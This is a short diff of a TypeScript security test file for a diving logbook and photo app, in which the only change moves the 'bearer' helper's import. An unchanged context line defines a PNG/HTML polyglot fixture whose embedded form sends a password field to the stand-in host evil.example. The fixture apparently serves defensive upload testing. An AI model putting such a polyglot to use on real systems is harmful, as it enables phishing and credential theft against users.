@@ -1,9 +1,9 @@
 import { randomUUID } from 'node:crypto';
 import type pg from 'pg';
 import { LocalDiskStore, StorageService } from '@app/storage';
-import type { Diver, TestApi } from '../support/api.js';
+import { bearer, type Diver, type TestApi } from '../support/api.js';
 import { PNG, logbookFields } from '../support/fixtures.js';
-import { bearer, LOGBOOKS, path, PHOTOS, requestsTo, startSecurityWorld } from '../support/security.js';
+import { LOGBOOKS, path, PHOTOS, requestsTo, startSecurityWorld } from '../support/security.js';
 
 /** PNG magic bytes, then a page: a valid image by content, dangerous if ever served as HTML. */
 const POLYGLOT = Buffer.concat([PNG, Buffer.from('<html><form action="https://evil.example/"><input name="pw"></form>')]);
